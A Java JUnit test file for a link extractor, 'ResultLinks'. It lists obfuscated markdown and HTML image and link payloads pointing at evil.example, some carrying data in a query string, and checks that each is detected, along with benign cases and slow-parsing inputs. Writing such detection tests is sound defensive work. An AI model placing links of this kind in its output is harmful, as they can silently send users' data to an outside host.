package dev.stoplock.core.effect;

import static org.assertj.core.api.Assertions.assertThat;

import java.time.Duration;
import java.util.Objects;
import org.junit.jupiter.api.Assertions;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class ResultLinksTest {

    @ParameterizedTest
    @ValueSource(
            strings = {
                "![a](http:evil.example/p?d=DATA)",
                "![a](https:evil.example)",
                "[a]( <https:\\evil.example/p> )",
                "<http:evil.example/p>",
                "![a](https\\://evil.example/?d=1)",
                "![a](https:\\/\\/evil.example/?d=1)",
                "![a](https://evil\\.example/?d=1)",
                "![a](&#47;&#47;evil.example/x)",
                "![a](&sol;&#x2f;evil.example/x)",
                "![a](&#00000000047;/evil.example/x)",
                "![a](ht&Tab;tps://evil.example/x)",
                "[a][r]\n\n[r]: ht&#10;tps&colon;//evil.example/x",
                "[r]: //evil.example/x",
                "[r]: http:evil.example/x",
                "[r]:\n//evil.example/x",
                "> [r]: //evil.example/x",
                "> [r]:\n> //evil.example/x",
                "- [r]: //evil.example/x",
                "1. > * [r]: <//evil.example/x>",
                "![a](ht\ntps://evil.example/x)",
                "![a](https:/\n/evil.example)",
                "![a](/\t/evil.example/x)",
                "<ht\r\ntps://evil.example/x>",
                "<img src=\"ht\ntps:evil.example/x\">"
            })
    void what_a_renderer_completes_to_a_link_is_one(String text) {
        assertThat(ResultLinks.of(text))
                .extracting(ResultLinks::host)
                .filteredOn(Objects::nonNull)
                .contains("evil.example");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "no link: a/b, 1:2, C:\\temp\\x, e.g. foo.bar",
                "x = a[i]: // the first",
                "http: is a scheme, https: another",
                "a < b, c > d: (https) \\* R&D [x](#top) [y](a/b)",
                "{\"type\":\"text\",\"n\":1}",
                "note://internal/1"
            })
    void what_nobody_opens_is_none(String text) {
        assertThat(ResultLinks.of(text)).isEmpty();
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "](",
                "](http:",
                "]: ",
                "]:\n>",
                "<",
                "<http:",
                "[",
                "\\:",
                "&#0",
                "&#0000",
                "http:",
                "https:/x)",
                "a://)))"
            })
    void a_text_made_to_be_slow_is_read_in_time(String piece) {
        String text = piece.repeat((1 << 18) / piece.length());

        Assertions.assertTimeoutPreemptively(Duration.ofSeconds(10), () -> ResultLinks.of(text));
    }
}
